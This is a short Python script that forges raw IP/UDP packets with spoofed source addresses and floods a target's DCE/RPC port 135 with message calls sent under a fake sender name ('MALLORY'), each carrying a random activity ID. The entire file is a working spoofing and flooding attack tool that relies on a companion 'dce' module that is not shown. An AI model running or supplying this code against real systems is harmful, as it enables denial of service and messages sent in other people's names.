"""Writes calls in the names of others, each of another activity, as fast as it
can: flood.py SERVER NUMBER ADDRESS..."""
import os
import socket
import struct
import sys

sys.dont_write_bytecode = True
from dce import *  # noqa: beside this file

server, number, *others = sys.argv[1:]
text = string(b"MALLORY", LITTLE) + string(b"HOST2", LITTLE) + string(b"in another's name", LITTLE)
call = bytes(DceRpc4(endian=LITTLE, object=NONE, if_id=SEND, act_id=NONE, if_vers=1) / text)
head, tail = call[:40], call[56:]
size = 20 + 8 + len(call)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(int(number)):
    # The kernel fills in the checksum of IP; UDP needs none.
    ip = struct.pack(">BBHHHBBH", 0x45, 0, size, i & 0xFFFF, 0, 64, 17, 0)
    ip += socket.inet_aton(others[i % len(others)]) + socket.inet_aton(server)
    udp = struct.pack(">HHHH", 1024 + i % 50000, 135, 8 + len(call), 0)
    if i == 5000:
        print("begun", flush=True)
    s.sendto(ip + udp + head + os.urandom(16) + tail, (server, 0))
print("done", flush=True)
